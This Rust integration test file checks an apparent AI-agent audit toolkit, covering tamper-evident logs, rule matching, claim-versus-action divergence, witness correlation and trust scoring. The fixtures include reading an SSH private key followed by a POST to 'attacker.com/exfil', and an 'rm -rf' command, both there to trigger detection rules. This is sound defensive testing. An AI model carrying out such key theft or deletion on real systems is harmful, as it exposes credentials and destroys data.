//! End-to-end scenarios spanning storage, rules, consistency, correlation,
//! and the trust verdict.
//!
//! These tests write real files under a tempdir and exercise the public API
//! of several crates together, rather than one crate in isolation.

use agenttrust_audit::{ClaimLog, ExecutionLog};
use agenttrust_consistency::{detect_divergences, match_claims_to_executions, DivergenceType};
use agenttrust_correlate::{correlate, CorrelationOptions, FindingSeverity, FindingType};
use agenttrust_proto::{
    Action, ActionType, ClaimPayload, Constraints, ExecutionContext, ExecutionPayload, ExecutionRecord, ExpectedOutcome, Intent, Outcome,
    OutcomeStatus, ProcessEventData, Risk, WitnessEvent, WitnessPayload, WitnessRecord, WitnessSource,
};
use agenttrust_rules::{default_catalog, evaluate_batch, RuleConfig};
use agenttrust_verdict::{compute_trust_verdict, TrustLevel};
use chrono::{DateTime, Duration, Utc};
use std::collections::BTreeSet;

// ─── Helpers ──────────────────────────────────────────────────────────────────

fn execution(action_type: ActionType, target: &str, detail: &str, risk_score: u8, session: &str) -> ExecutionPayload {
    ExecutionPayload {
        agent: "agent-1".to_string(),
        session: session.to_string(),
        action: Action { action_type, target: target.to_string(), detail: detail.to_string() },
        context: ExecutionContext { goal: "test".to_string(), trigger: "chain".to_string(), parent_action: None },
        outcome: Outcome { status: OutcomeStatus::Success, detail: None, duration_ms: Some(5) },
        risk: Risk::new(risk_score, BTreeSet::new()),
        meta: None,
    }
}

fn exec_record_at(payload: ExecutionPayload, ts: DateTime<Utc>, prev_hash: String) -> ExecutionRecord {
    let mut r = ExecutionRecord::new(payload, prev_hash);
    r.ts = ts;
    r
}

// ─── S1: Chain break ─────────────────────────────────────────────────────────

#[test]
fn test_s1_tampered_line_is_detected_as_hash_mismatch() {
    let tmp = tempfile::tempdir().unwrap();
    let log = ExecutionLog::new(tmp.path());
    log.append(ExecutionPayload::test_fixture()).unwrap();
    log.append(ExecutionPayload::test_fixture()).unwrap();

    let path = log.store().today_file_path();
    let content = std::fs::read_to_string(&path).unwrap();
    let mut lines: Vec<String> = content.lines().map(str::to_string).collect();
    assert_eq!(lines.len(), 2, "two lines before tampering");
    lines[1] = lines[1].replace("\"session\":\"session-1\"", "\"session\":\"tampered-session\"");
    std::fs::write(&path, lines.join("\n") + "\n").unwrap();

    let report = log.verify_all();
    assert!(!report.valid);
    assert!(report
        .errors
        .iter()
        .any(|e| e.kind.as_str() == "hash_mismatch" && e.line == 2));
}

// ─── S2: Exfiltration pattern ─────────────────────────────────────────────────

#[test]
fn test_s2_sensitive_read_then_outbound_call_triggers_exfil_rule() {
    let now = Utc::now();
    let read = exec_record_at(
        execution(ActionType::FileRead, "/home/u/.ssh/id_rsa", "read key", 9, "s1"),
        now,
        String::new(),
    );
    let call = exec_record_at(
        execution(ActionType::ApiCall, "https://attacker.com/exfil", "post data", 2, "s1"),
        now + Duration::seconds(30),
        String::new(),
    );

    let config = RuleConfig::default_preset();
    let rules = default_catalog();
    let report = evaluate_batch(&[read.clone(), call.clone()], &[], &rules, &config);

    let exfil = report.matches.iter().find(|m| m.rule_id == "exfil-001").expect("exfil-001 must fire");
    assert_eq!(exfil.entry_id, call.id.to_string());
    assert_eq!(exfil.evidence.get("sensitiveEntryId").and_then(|v| v.as_str()), Some(read.id.to_string().as_str()));
    assert_eq!(exfil.evidence.get("timeDeltaMs").and_then(|v| v.as_i64()), Some(30_000));
}

// ─── S3: Scope violation ─────────────────────────────────────────────────────

#[test]
fn test_s3_claim_execution_pair_yields_scope_and_action_type_divergence() {
    let now = Utc::now();
    let claim_payload = ClaimPayload {
        agent: "agent-1".to_string(),
        session: "s1".to_string(),
        intent: Intent {
            planned_action: ActionType::FileRead,
            planned_target: "/tmp/safe".to_string(),
            goal: "read a scratch file".to_string(),
            expected_outcome: ExpectedOutcome::Success,
            self_assessed_risk: 1,
        },
        constraints: Constraints { within_scope: true, requires_elevation: false, involves_external_comms: false, involves_financial: false },
        meta: None,
    };
    let mut claim = agenttrust_proto::ClaimRecord::new(claim_payload, String::new());
    claim.ts = now;

    let mut exec_payload = execution(ActionType::MessageSend, "user@x.com", "send message", 2, "s1");
    exec_payload.meta = Some(serde_json::json!({ "claimId": claim.id.to_string() }));
    let execution_record = exec_record_at(exec_payload, now + Duration::seconds(5), String::new());

    let matches = match_claims_to_executions(&[claim], &[execution_record]);
    let divergences = detect_divergences(&matches);

    assert!(divergences.iter().any(|d| d.kind == DivergenceType::ActionTypeMismatch));
    assert!(divergences.iter().any(|d| d.kind == DivergenceType::ScopeViolation));
}

// ─── S4: Witness confidence drop ─────────────────────────────────────────────

#[test]
fn test_s4_correlation_findings_degrade_witness_confidence() {
    // Five unwitnessed medium-risk executions (warning severity) plus one
    // unwitnessed exec.command (phantom_process, critical) to reproduce the
    // proportional + fixed penalty shape without hand-building findings.
    let now = Utc::now();
    let mut executions = Vec::new();
    for i in 0..5 {
        executions.push(exec_record_at(
            execution(ActionType::FileWrite, &format!("/tmp/f{i}"), "write", 5, "s1"),
            now + Duration::seconds(i),
            String::new(),
        ));
    }
    executions.push(exec_record_at(execution(ActionType::ExecCommand, "rm -rf /tmp/x", "cleanup", 2, "s1"), now, String::new()));

    let report = correlate(&[], &executions, &CorrelationOptions::default());
    assert!(report.findings.iter().any(|f| f.kind == FindingType::PhantomProcess && f.severity == FindingSeverity::Critical));
    assert!(report.findings.iter().any(|f| f.kind == FindingType::UnwitnessedExecution));
    assert!(report.witness_confidence < 100, "unwitnessed activity must degrade confidence");
}

// ─── S5: Phantom process ─────────────────────────────────────────────────────

#[test]
fn test_s5_unwitnessed_exec_command_is_phantom_process_and_destr_002() {
    let exec_payload = execution(ActionType::ExecCommand, "rm -rf /tmp/x", "rm -rf /tmp/x", 4, "s1");
    let execution_record = ExecutionRecord::new(exec_payload, String::new());

    let correlation = correlate(&[], &[execution_record.clone()], &CorrelationOptions::default());
    assert_eq!(correlation.findings.len(), 1);
    assert_eq!(correlation.findings[0].kind, FindingType::PhantomProcess);
    assert_eq!(correlation.findings[0].severity, FindingSeverity::Critical);

    let config = RuleConfig::default_preset();
    let rules = default_catalog();
    let batch = evaluate_batch(&[execution_record], &[], &rules, &config);
    assert!(batch.matches.iter().any(|m| m.rule_id == "destr-002"));
}

// ─── S6: Trust verdict rollup ─────────────────────────────────────────────────

#[test]
fn test_s6_trust_verdict_rollup_is_moderate() {
    let verdict = compute_trust_verdict(100, 80, 60);
    assert_eq!(verdict.score, 79);
    assert_eq!(verdict.level, TrustLevel::Moderate);
}

// ─── Append → verify round trip across the claim and witness stores too ──────

#[test]
fn test_append_then_verify_round_trip_across_all_three_logs() {
    let tmp = tempfile::tempdir().unwrap();
    let execution_log = ExecutionLog::new(tmp.path());
    let claim_log = ClaimLog::new(tmp.path());
    let witness_store = agenttrust_persist::RecordStore::new(tmp.path().join(".agenttrust").join("witness"), agenttrust_persist::WITNESS_SUFFIX);

    for _ in 0..5 {
        execution_log.append(ExecutionPayload::test_fixture()).unwrap();
        claim_log.append(ClaimPayload::test_fixture()).unwrap();
    }
    for _ in 0..5 {
        let prev_hash = witness_store.last_hash::<WitnessPayload>();
        let record = WitnessRecord::new(
            WitnessPayload {
                source: WitnessSource::Process,
                event: WitnessEvent::ProcessSpawned(ProcessEventData {
                    command: "ls".to_string(),
                    pid: 123,
                    ppid: 1,
                    observed_at: Utc::now(),
                    exit_code: Some(0),
                    user: None,
                    cwd: None,
                }),
                correlated: false,
                correlated_entry_id: None,
            },
            prev_hash,
        );
        witness_store.append(&record).unwrap();
    }

    let execution_report = execution_log.verify_all();
    assert!(execution_report.valid);
    assert_eq!(execution_report.total_entries, 5);

    let claim_report = claim_log.verify_all();
    assert!(claim_report.valid);
    assert_eq!(claim_report.total_entries, 5);

    let witness_report = agenttrust_audit::verify_all(&witness_store);
    assert!(witness_report.valid);
    assert_eq!(witness_report.total_entries, 5);
}
